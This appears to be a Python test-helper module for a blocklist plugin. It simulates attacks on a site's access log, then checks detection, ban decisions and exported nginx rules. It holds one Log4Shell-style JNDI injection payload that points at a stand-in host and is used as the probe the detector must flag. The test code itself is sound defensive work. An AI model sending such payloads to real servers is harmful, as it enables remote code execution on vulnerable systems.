"""A site with attackers, and its decisions."""

from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from plugins.blocklist.by_hand import ban
from plugins.blocklist.decisions import Decision, Decisions
from plugins.steps.detecting import Detected, detect
from tests.stores import POLICY, Site, hit, silent, utc

NOON = utc(2026, 11, 20, 11)  # in Oslo
DAY = NOON.date()
MALLORY, TRUDY, BERIT = "203.0.113.66", "203.0.113.67", "198.51.100.5"
PROBE = "/?x=${jndi:ldap://x.example/a}"  # one is enough for a decision
OPEN = POLICY + "\n[blocklist]\nallowlist = []\n"


def attacked(folder: Path, *moments: datetime, address: str = MALLORY, policy: str = OPEN) -> Site:
    """A site at noon that one address attacked at these moments."""
    site = Site(folder, NOON, policy)
    attack(site, *(moments or [NOON - timedelta(minutes=5)]), address=address)
    return site


def attack(site: Site, *moments: datetime, address: str = MALLORY) -> None:
    site.write("access.log", *(hit(moment, address, PROBE) for moment in moments))
    assert site.ingest().problems == []


def detect_on(site: Site) -> Detected:
    return detect(site.open(), "operations", silent)


def new_and_active(site: Site) -> tuple[int, int]:
    """How many decisions a detection makes, and how many bans are in force after it."""
    return detect_on(site).new, len(Decisions(site.open()).active(site.now))


def kept(site: Site) -> list[Decision]:
    return Decisions(site.open()).all()


def targets(site: Site) -> set[tuple[str, str]]:
    return {(one.target, one.scenario) for one in kept(site)}


def active(site: Site) -> set[str]:
    return {one.target for one in Decisions(site.open()).active(site.now)}


def ban_by_hand(site: Site, target: str = BERIT, **options: Any) -> Decision:
    return ban(site.open(), [target], "seen at the desk", "security", **options)[0]


def export(site: Site, name: str = "nginx.conf") -> str:
    return (site.folder / "store" / "exports" / "blocklist" / name).read_text(encoding="utf-8")
